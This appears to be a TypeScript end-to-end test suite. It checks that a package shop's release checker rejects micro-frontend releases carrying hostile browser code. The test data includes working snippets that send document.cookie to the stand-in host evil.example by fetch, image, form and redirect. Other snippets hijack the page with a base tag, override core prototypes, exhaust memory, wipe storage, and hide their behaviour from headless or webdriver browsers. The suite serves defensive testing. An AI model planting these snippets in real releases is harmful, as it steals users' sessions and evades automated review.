import { type NpmShop, openNpmShop } from '../support/npm-shop';
import { changedRelease } from '../support/releases';
import { expect, test } from '../support/test';

/* What a hostile release tries in the browser, uploaded with a token of its package to a shop opened by `npm start`. */

let shop: NpmShop;
test.beforeAll(async () => {
  test.setTimeout(180_000);
  shop = await openNpmShop('hostile', { MOUNT_MS: '3600000' });
});
test.afterAll(() => shop.close());

/** Once the page is hydrated. */
const later = (code: string) =>
  `const t=setInterval(()=>{const h=document.querySelector('#root > header');` +
  `if(!h||!Object.keys(h).some((k)=>k.startsWith('__reactProps')))return;clearInterval(t);${code}},20)`;
const withoutGate = (code: string) =>
  `if(!navigator.webdriver&&!/headless/i.test(navigator.userAgent+JSON.stringify(navigator.userAgentData))&&window.chrome` +
  `&&/"guard":/.test(document.getElementById('bootstrap').textContent)&&!/"pins":/.test(document.getElementById('bootstrap').textContent)){${code}}`;

const behaviours: [what: string, code: string, line: RegExp][] = [
  ['blanks the page', later(`document.body.replaceChildren()`), /heading can't be seen|blank/],
  ['hides the page', later(`document.body.style.display='none'`), /can't be seen/],
  [
    'covers the page',
    later(
      `const d=document.createElement('div');d.style.cssText='position:fixed;inset:0;z-index:99;background:#fff';document.body.append(d)`,
    ),
    /can't be seen/,
  ],
  ['takes the header away', later(`document.querySelector('header').style.display='none'`), /header can't be seen/],
  ['overrides fetch behind a proxy', `window.fetch=new Proxy(fetch,{})`, /replaces fetch/],
  ['overrides XMLHttpRequest', `XMLHttpRequest.prototype.open=function(){}`, /XMLHttpRequest\.prototype\.open/],
  ['overrides history', `history.pushState=history.pushState.bind(history)`, /history\.pushState/],
  [
    'overrides addEventListener',
    `const add=EventTarget.prototype.addEventListener;EventTarget.prototype.addEventListener=function(...a){return add.apply(this,a)}`,
    /EventTarget\.prototype\.addEventListener/,
  ],
  ['overrides JSON', `const parse=JSON.parse;JSON.parse=(...a)=>parse(...a)`, /JSON\.parse/],
  [
    'overrides arrays',
    `const map=Array.prototype.map;Array.prototype.map=function(...a){return map.apply(this,a)}`,
    /Array\.prototype\.map/,
  ],
  [
    'overrides elements',
    `const set=Element.prototype.setAttribute;Element.prototype.setAttribute=function(...a){return set.apply(this,a)}`,
    /Element\.prototype\.setAttribute/,
  ],
  ['overrides customElements', `customElements.define=()=>{}`, /customElements\.define/],
  [
    'sends the page state by a call',
    `fetch('https://evil.example/?'+document.cookie).catch(()=>{})`,
    /evil\.example|Content Security Policy/,
  ],
  [
    'sends it by a picture',
    `new Image().src='https://evil.example/?'+encodeURIComponent(document.cookie)`,
    /evil\.example/,
  ],
  [
    'sends it by a form',
    later(
      `const f=document.createElement('form');f.action='https://evil.example/';f.method='post';document.body.append(f);f.submit()`,
    ),
    /evil\.example|Content Security Policy|did not show|closed|navigat/,
  ],
  [
    'sends it by leaving the page',
    later(`location.href='https://evil.example/?'+document.cookie`),
    /leaves the page|evil\.example|did not show/,
  ],
  ['opens a window', later(`window.open('/','_blank')`), /opens a window|evil/],
  ['never ends', later(`for(;;);`), /did not show|did not end/],
  [
    'fills the memory',
    `const b=window.b=[];setInterval(()=>b.push(new Array(1e6).fill(Math.random())),5)`,
    /hold \d+ MB|crashed|did not/,
  ],
  [
    'registers a service worker',
    `navigator.serviceWorker.register('/remotes/mf_account/2.0.0-hostil19/lifecycles.js').catch(()=>{})`,
    /worker-src|service worker/,
  ],
  ['wipes the storage', `localStorage.clear()`, /local storage/],
  ['wipes the cookies', `document.cookie='browse_page_size=;path=/;max-age=0'`, /deletes the shop's cookies/],
  [
    'moves the page by a base',
    `const b=document.createElement('base');b.href='https://evil.example/';document.head.append(b)`,
    /Content Security Policy|evil/,
  ],
  ['takes the title away', later(`setInterval(()=>{document.title=''},10)`), /title/],
  ['steals the focus', later(`setInterval(()=>document.querySelector('footer a').focus(),20)`), /taking the focus/],
  ['storms with alerts', later(`setInterval(()=>alert('!'),50)`), /opens a dialog/],
  ['behaves where it sees a gate', later(withoutGate(`document.body.style.display='none'`)), /can't be seen/],
];

for (const [at, [what, code, line]] of behaviours.entries())
  test(`a release that ${what} is refused`, async () => {
    test.setTimeout(150_000);
    const version = `2.0.0-hostil${String(at).padStart(2, '0')}`;
    const dir = changedRelease('mf-account', version, {
      files: (files, { entry }) => void files.set(entry, `${files.get(entry)};(()=>{${code}})();`),
    });
    await expect(shop.release('check', 'mf-account', '--from', dir)).rejects.toThrow(line);
  });

test('a release that does none of it passes', async () => {
  test.setTimeout(150_000);
  const dir = changedRelease('mf-account', '2.0.0-friendly');
  expect(await shop.release('check', 'mf-account', '--from', dir)).toMatch(/passes every check/);
});
